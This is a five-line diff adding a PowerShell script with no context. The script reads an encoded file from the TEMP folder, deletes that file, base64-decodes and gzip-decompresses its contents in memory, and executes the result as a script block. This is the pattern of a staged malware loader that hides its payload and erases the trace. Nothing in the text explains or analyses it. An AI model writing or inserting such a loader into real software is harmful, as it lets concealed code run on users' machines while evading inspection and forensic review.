@@ -1,0 +1,5 @@
+$Text = [IO.File]::ReadAllText("$env:TEMP\c")
+[IO.File]::Delete("$env:TEMP\c")
+$Memory = New-Object IO.MemoryStream(,[Convert]::FromBase64String($Text))
+$Unpacker = New-Object IO.Compression.GZipStream($Memory, [IO.Compression.CompressionMode]::Decompress)
+& ([ScriptBlock]::Create((New-Object IO.StreamReader($Unpacker)).ReadToEnd()))
